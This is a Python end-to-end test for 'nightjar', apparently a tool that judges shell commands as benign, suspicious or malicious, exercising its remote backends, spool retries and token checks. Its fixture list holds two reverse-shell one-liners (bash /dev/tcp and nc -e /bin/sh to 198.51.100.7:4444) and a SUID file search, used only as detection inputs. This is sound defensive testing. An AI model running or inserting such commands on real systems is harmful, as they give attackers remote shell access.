#!/usr/bin/env python3
"""The remote backend end to end: `nightjar analyze --backend` and
`nightjar watch --backend` against real servers started here.

  1. A second `nightjar serve` (SmolLM2, loopback TCP, a token) as
     nightjar+http: verdicts in input order, rules decided locally (a
     backend nobody listens on still gives rule verdicts), the open events
     sent in one /v1/analyze batch, a rule's floor kept, a wrong token
     refused.
  2. The same server as openai+http (its /v1/chat/completions with the
     verdict schema; it refuses logprobs, so they are not asked again).
  3. watch with its backend down: rule verdicts are stored, the other
     events wait in the spool (`--once` fails, naming them); a running
     watch retries with backoff and judges them once a server comes up;
     every event then has exactly one verdict and the sink got each.
  4. llama-server (the peer build), where it exists, as openai+http: the
     label's log-probabilities become the verdict's scores.

Prints one line per check and "N passed, M failed"; exits 1 on failure.
Every wait polls a condition under a generous deadline.
"""
import json
import os
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
import urllib.request

BIN = os.environ.get("NJ_BIN", "build/nightjar")
MODEL_DIR = os.environ.get("NIGHTJAR_TEST_MODEL_DIR", os.path.expanduser("~/.cache/nightjar/models"))
MODEL = os.path.join(MODEL_DIR, "SmolLM2-135M-Instruct.Q4_1.gguf")
PEER = os.environ.get("NIGHTJAR_PEER_BIN", os.path.expanduser("~/.cache/nightjar/peer/llama.cpp/build/bin"))
LLAMA_SERVER = os.path.join(PEER, "llama-server")
SLOW = "asan" in BIN or "tsan" in BIN
DEADLINE = 600 if SLOW else 240
TOKEN = "test-token-7"

passed = failed = 0
procs = []


def check(name, cond, detail=""):
    global passed, failed
    if cond:
        passed += 1
        print(f"ok   {name}")
    else:
        failed += 1
        print(f"FAIL {name}" + (f": {detail}" if detail else ""))
    return cond


def finish():
    for p in procs:
        if p.poll() is None:
            p.send_signal(signal.SIGTERM)
            try:
                p.wait(30)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()
    print(f"{passed} passed, {failed} failed")
    sys.exit(1 if failed else 0)


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def get(port, path, token=None):
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}")
    if token:
        req.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except OSError:
        return 0, ""


def wait_for(cond, deadline=DEADLINE):
    t = time.time() + deadline
    while time.time() < t:
        if cond():
            return True
        time.sleep(0.2)
    return False


def start_serve(port, log):
    p = subprocess.Popen([BIN, "serve", "-m", MODEL, "--socket", "none", "--port", str(port), "-t", "1",
                          "--idle-unload", "0", "--nice", "0", "--token", TOKEN], stdout=log, stderr=log)
    procs.append(p)
    ok = wait_for(lambda: p.poll() is None and get(port, "/health", TOKEN)[0] == 200)
    return p if ok else None


def analyze_requests(port):
    _, text = get(port, "/metrics", TOKEN)
    n = 0
    for line in text.splitlines():
        if line.startswith('nightjar_requests_total{endpoint="/v1/analyze",code="200"}'):
            n += int(line.split()[-1])
    return n


def analyze(args, inp):
    r = subprocess.run([BIN, "analyze"] + args + [inp], capture_output=True, text=True, timeout=DEADLINE)
    verdicts = [json.loads(l) for l in r.stdout.splitlines() if l.strip()]
    return r.returncode, verdicts, r.stderr


# Two events rules call malicious, one a rule calls suspicious, two no rule decides.
LINES = ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "ls -la /tmp", "find / -perm -4000 -type f",
         "nc -e /bin/sh 198.51.100.7 4444", "git status"]
RULE_MALICIOUS = {"cmdline:1", "cmdline:4"}


def spool_state(db):
    c = sqlite3.connect(db)
    try:
        ev = c.execute("select count(*) from events").fetchone()[0]
        per = c.execute("select e.event_id, count(v.seq) from events e left join verdicts v on v.seq = e.seq "
                        "group by e.seq").fetchall()
        vs = [json.loads(r[0]) for r in c.execute("select verdict_json from verdicts")]
        return ev, dict(per), vs
    finally:
        c.close()


def main():
    if not os.path.exists(MODEL):
        print(f"skip: {MODEL} is not there (scripts/get-models)")
        print("0 passed, 0 failed")
        return
    tmp = tempfile.mkdtemp(prefix="nj-backend-")
    try:
        run(tmp)
    finally:
        finish_tmp = tmp
        shutil.rmtree(finish_tmp, ignore_errors=True)


def run(tmp):
    inp = os.path.join(tmp, "commands.txt")
    with open(inp, "w") as f:
        f.write("\n".join(LINES) + "\n")
    log = open(os.path.join(tmp, "serve.log"), "w")
    port = free_port()
    srv = start_serve(port, log)
    if not check("a second nightjar serve comes up", srv is not None, open(os.path.join(tmp, "serve.log")).read()[-400:]):
        return
    backend = f"nightjar+http://127.0.0.1:{port}"

    # 1. nightjar+http
    before = analyze_requests(port)
    rc, vs, err = analyze(["--backend", backend, "--backend-token", TOKEN], inp)
    check("analyze --backend nightjar+http judges every event", rc == 0 and len(vs) == 5, err[-300:])
    check("verdicts come in input order", [v.get("event_id") for v in vs] == [f"cmdline:{i}" for i in range(1, 6)])
    by = {v["event_id"]: v for v in vs}
    check("what a rule calls malicious is decided locally",
          all(by.get(i, {}).get("source") == "rule" for i in RULE_MALICIOUS))
    remote = [by.get(i, {}) for i in ("cmdline:2", "cmdline:5")]
    check("the open events are judged by the remote, and say so",
          all(v.get("source") == "remote" and v.get("model", "").startswith(backend + "/SmolLM2")
              and v.get("remote_source") in ("model", "cache", "rule") for v in remote), json.dumps(remote)[:400])
    sus = by.get("cmdline:3", {})
    check("a rule's suspicious verdict is a floor", sus.get("verdict") in ("suspicious", "malicious")
          and sus.get("rule_ids"), json.dumps(sus)[:300])
    check("the open events went in one /v1/analyze batch", analyze_requests(port) - before == 1,
          f"{analyze_requests(port) - before} requests")
    rc, vs, err = analyze(["--backend", backend, "--backend-token", "wrong"], inp)
    check("a wrong token is an error naming HTTP 401, rule verdicts still printed",
          rc == 1 and "401" in err and {v["event_id"] for v in vs} == RULE_MALICIOUS, err[-300:])
    dead = f"nightjar+http://127.0.0.1:{free_port()}"
    rules_only = os.path.join(tmp, "rules.txt")
    with open(rules_only, "w") as f:
        f.write(LINES[0] + "\n" + LINES[3] + "\n")
    rc, vs, err = analyze(["--backend", dead, "--backend-timeout", "2000"], rules_only)
    check("events rules decide need no backend (nobody listening)", rc == 0 and len(vs) == 2
          and all(v["source"] == "rule" for v in vs), err[-300:])

    # 2. openai+http against the same server's chat endpoint
    rc, vs, err = analyze(["--backend", f"openai+http://127.0.0.1:{port}/v1", "--backend-token", TOKEN], inp)
    by = {v["event_id"]: v for v in vs}
    oai = [by.get(i, {}) for i in ("cmdline:2", "cmdline:5")]
    check("analyze --backend openai+http (nightjar's chat endpoint, verdict schema)",
          rc == 0 and len(vs) == 5 and all(v.get("source") == "remote" and v.get("verdict") in
                                            ("benign", "suspicious", "malicious") and isinstance(v.get("summary"), str)
                                            and v.get("model", "").startswith(f"openai+http://127.0.0.1:{port}/")
                                            for v in oai), err[-300:] + json.dumps(oai)[:300])

    # 3. watch with the backend down, then up
    port2 = free_port()
    backend2 = f"nightjar+http://127.0.0.1:{port2}"
    db = os.path.join(tmp, "spool.db")
    sink = os.path.join(tmp, "verdicts.jsonl")
    wlog = os.path.join(tmp, "watch.err")
    wcmd = [BIN, "watch", "--spool", db, "--source", "cmdline:" + inp, "--sink", "jsonl:" + sink,
            "--backend", backend2, "--backend-token", TOKEN, "--backend-timeout", "60000"]
    r = subprocess.run(wcmd + ["--once"], capture_output=True, text=True, timeout=DEADLINE)
    ev, per, vs = spool_state(db)
    check("watch --once with the backend down fails and says the events wait",
          r.returncode == 1 and "stay in the spool" in r.stderr, r.stderr[-300:])
    check("... rule verdicts are stored, the other events wait without one",
          ev == 5 and sum(per.values()) == 2 and {k for k, n in per.items() if n} == RULE_MALICIOUS, str(per))
    w = subprocess.Popen(wcmd, stdout=subprocess.DEVNULL, stderr=open(wlog, "w"))
    procs.append(w)
    waited = wait_for(lambda: "wait in the spool" in open(wlog).read(), 120)
    check("a running watch notices the backend is down", waited, open(wlog).read()[-300:])
    srv2 = start_serve(port2, log)
    check("the backend comes up", srv2 is not None)
    done = wait_for(lambda: sum(spool_state(db)[1].values()) == 5)
    ev, per, vs = spool_state(db)
    check("watch retries with backoff and judges the waiting events", done and ev == 5, str(per))
    check("every event has exactly one verdict", set(per.values()) == {1}, str(per))
    check("the waiting events were judged by the remote",
          sum(v.get("source") == "remote" for v in vs) >= 2, json.dumps([v.get("source") for v in vs]))
    got = wait_for(lambda: os.path.exists(sink) and
                   {json.loads(l)["event_id"] for l in open(sink) if l.strip()} >= set(per), 60)
    check("the sink received every verdict", got)
    w.send_signal(signal.SIGTERM)
    check("watch stops on SIGTERM", w.wait(60) == 0)

    # 4. llama-server
    if not os.access(LLAMA_SERVER, os.X_OK):
        print(f"skip: llama-server not built at {LLAMA_SERVER} (bench/setup-peer); the openai backend was "
              "tested against nightjar's own chat endpoint only")
        return
    port3 = free_port()
    env = dict(os.environ, LD_LIBRARY_PATH=PEER)
    llog = open(os.path.join(tmp, "llama.log"), "w")
    ls = subprocess.Popen([LLAMA_SERVER, "-m", MODEL, "--port", str(port3), "--host", "127.0.0.1", "-t", "1",
                           "-c", "4096"], stdout=llog, stderr=llog, env=env)
    procs.append(ls)
    up = wait_for(lambda: ls.poll() is None and get(port3, "/health")[0] == 200)
    if not check("llama-server comes up", up, open(os.path.join(tmp, "llama.log")).read()[-300:]):
        return
    open_only = os.path.join(tmp, "open.txt")
    with open(open_only, "w") as f:
        f.write(LINES[1] + "\n" + LINES[4] + "\n")
    rc, vs, err = analyze(["--backend", f"openai+http://127.0.0.1:{port3}/v1"], open_only)
    check("analyze --backend openai+http against llama-server",
          rc == 0 and len(vs) == 2 and all(v.get("source") == "remote" for v in vs), err[-300:])
    check("... its log-probabilities become the verdicts' scores",
          all(isinstance(v.get("scores"), dict) and abs(sum(v["scores"].values()) - 1) < 0.02 for v in vs),
          json.dumps(vs)[:400])


if __name__ == "__main__":
    try:
        main()
    finally:
        finish()
